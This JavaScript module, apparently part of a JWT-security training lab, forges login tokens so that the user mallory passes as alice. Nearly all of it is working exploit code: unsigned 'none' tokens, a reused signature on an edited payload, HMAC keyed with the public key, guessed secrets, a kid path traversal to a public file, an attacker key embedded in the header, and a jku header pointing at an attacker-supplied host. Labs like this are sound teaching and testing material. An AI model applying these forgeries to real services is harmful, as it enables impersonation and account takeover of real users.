// @ts-check
/** One function for each forgery: a token that says alice, made from what mallory has: her own token, and what is public. */

import { ed25519Pem, encode, generate, keyFromJwk, secretKey, sign, unsigned } from "/static/js/jose.js";

/** @typedef {Record<string, any>} Parts */
/** @typedef {{header: Parts, claims: Parts, token: string}} Own Mallory's own token. */

/** Her claims, with alice written over her. @param {Parts} claims */
export const asAlice = (claims) => ({ ...claims, sub: "1", username: "alice" });

/** @param {Own} own */
export const withoutSignature = ({ header, claims }) => `${unsigned({ ...header, alg: "none" }, asAlice(claims))}.`;

/** @param {Own} own */
export function edited({ header, claims, token }) {
  return `${unsigned(header, asAlice(claims))}.${token.split(".")[2]}`;
}

/** The public key, which everybody has, as the secret of an HMAC. @param {Own} own @param {Parts} jwk */
export async function underThePublicKey({ header, claims }, jwk) {
  return sign(unsigned({ ...header, alg: "HS256" }, asAlice(claims)), await secretKey(ed25519Pem(jwk)));
}

/** @param {Own} own @param {string} secret */
export async function underASecret({ header, claims }, secret) {
  return sign(unsigned({ ...header, alg: "HS256" }, asAlice(claims)), await secretKey(secret));
}

/** Under a file whose content everybody can read, named by a path. @param {Own} own @param {string} content */
export async function underAFile({ header, claims }, content) {
  return sign(unsigned({ ...header, alg: "HS256", kid: "../public/robots.txt" }, asAlice(claims)), await secretKey(content));
}

/** A key pair of the attacker, of the bank's algorithm where this browser can make one. */
export async function ownKey() {
  const [alg, pair] = await generate("EdDSA").then(
    (made) => /** @type {const} */ (["EdDSA", made]),
    async () => /** @type {const} */ (["ES256", await generate("ES256")]),
  );
  return { alg, publicJwk: pair.publicJwk ?? {}, key: await keyFromJwk(pair.privateJwk, alg, "sign") };
}

/** @typedef {Awaited<ReturnType<typeof ownKey>>} OwnKey */

/** With the key in the header that it is to be checked with. @param {Own} own @param {OwnKey} pair */
export async function withItsKey({ header, claims }, { alg, publicJwk, key }) {
  return sign(unsigned({ ...header, alg, jwk: publicJwk }, asAlice(claims)), key);
}

/** With an address in the header at which the key is to be fetched. @param {Own} own @param {OwnKey} pair @param {string} evil */
export async function withAnAddress({ header, claims }, { alg, publicJwk, key }, evil) {
  const jku = `${evil}/stage/naive/jwks?jwk=${encode(JSON.stringify({ ...publicJwk, kid: header.kid, use: "sig" }))}`;
  return sign(unsigned({ ...header, alg, jku }, asAlice(claims)), key);
}
